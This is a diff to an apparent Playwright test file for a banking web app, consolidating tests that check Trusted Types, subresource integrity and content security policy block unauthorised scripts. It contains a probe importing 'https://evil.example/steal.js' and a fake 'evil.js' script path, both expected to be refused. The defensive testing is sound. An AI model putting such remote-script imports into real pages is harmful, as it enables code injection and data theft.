@@ -6,9 +6,9 @@ import { expect, test } from '../fixtures.ts';
 
 test.use({ signedIn: true });
 
-/** Together they load every script of a package. */
+/** Together they load every script of a package, which is altered on the first page that does. */
 const visits: Record<string, string[]> = {
-  shell: ['dashboard', 'platform'],
+  shell: ['budget', 'platform', 'dashboard'],
   'mfe-auth': ['auth/login', 'error'],
   'mfe-dashboard': ['dashboard'],
   'mfe-accounts': ['accounts'],
@@ -56,65 +56,57 @@ for (const [name, paths] of Object.entries(visits)) {
   });
 }
 
-test('a script from an address that the registry does not name cannot even be made', async ({
+test('a page runs no script of an unnamed address, without its hash, or brought in from elsewhere', async ({
   page,
   expectProblems,
 }) => {
-  expectProblems(/TrustedScriptURL/);
-  await page.goto('dashboard');
+  expectProblems(/TrustedScriptURL/, /Integrity-Policy|integrity/i, /content security policy/i, /evil\.example/);
+  await page.goto('budget');
+  await expect(page.getByRole('heading', { level: 1, name: 'Budget' })).toBeVisible();
 
-  const refused = await page.evaluate(() => {
-    try {
-      document.createElement('script').src = '/banking/artifacts/evil.js';
-      return 'allowed';
-    } catch (error) {
-      return String(error);
-    }
-  });
-
-  expect(refused).toContain('TypeError');
-});
-
-test('a script of the bank without its hash is not run', async ({ page, expectProblems }) => {
-  expectProblems(/Integrity-Policy|integrity/i);
-  await page.goto('dashboard');
-  await expect(page.getByText('Net Worth')).toBeVisible();
-
-  const outcome = await page.evaluate(() => {
-    const known = document.querySelector<HTMLScriptElement>('script[integrity]');
-    const script = document.createElement('script');
-    script.src = known?.src ?? '';
-    return new Promise((resolve) => {
-      script.onload = () => resolve('ran');
-      script.onerror = () => resolve('refused');
-      document.head.append(script);
+  await test.step('a script from an address that the registry does not name cannot even be made', async () => {
+    const refused = await page.evaluate(() => {
+      try {
+        document.createElement('script').src = '/banking/artifacts/evil.js';
+        return 'allowed';
+      } catch (error) {
+        return String(error);
+      }
     });
+
+    expect(refused).toContain('TypeError');
   });
 
-  expect(outcome).toBe('refused');
-});
+  await test.step('a script of the bank without its hash is not run', async () => {
+    const outcome = await page.evaluate(() => {
+      const known = document.querySelector<HTMLScriptElement>('script[integrity]');
+      const script = document.createElement('script');
+      script.src = known?.src ?? '';
+      return new Promise((resolve) => {
+        script.onload = () => resolve('ran');
+        script.onerror = () => resolve('refused');
+        document.head.append(script);
+      });
+    });
 
-test('a script of the bank cannot bring in another from elsewhere, which no trusted type sees', async ({
-  page,
-  expectProblems,
-}) => {
-  expectProblems(/content security policy/i, /evil\.example/);
-  await page.goto('dashboard');
-  await expect(page.getByText('Net Worth')).toBeVisible();
-
-  const refusal = await page.evaluate(async () => {
-    const violation = new Promise<SecurityPolicyViolationEvent>((resolve) =>
-      document.addEventListener('securitypolicyviolation', resolve, { once: true }),
-    );
-    const outcome = await import('https://evil.example/steal.js' as string).catch(() => 'refused');
-    const { originalPolicy, blockedURI } = await violation;
-    return { outcome, originalPolicy, blockedURI };
+    expect(outcome).toBe('refused');
   });
 
-  expect(refusal).toEqual({
-    outcome: 'refused',
-    originalPolicy: `script-src 'self' '${RETRY_HASH}'; report-to sec`,
-    blockedURI: 'https://evil.example/steal.js',
+  await test.step('a script of the bank cannot bring in another from elsewhere, which no trusted type sees', async () => {
+    const refusal = await page.evaluate(async () => {
+      const violation = new Promise<SecurityPolicyViolationEvent>((resolve) =>
+        document.addEventListener('securitypolicyviolation', resolve, { once: true }),
+      );
+      const outcome = await import('https://evil.example/steal.js' as string).catch(() => 'refused');
+      const { originalPolicy, blockedURI } = await violation;
+      return { outcome, originalPolicy, blockedURI };
+    });
+
+    expect(refusal).toEqual({
+      outcome: 'refused',
+      originalPolicy: `script-src 'self' '${RETRY_HASH}'; report-to sec`,
+      blockedURI: 'https://evil.example/steal.js',
+    });
   });
 });
 
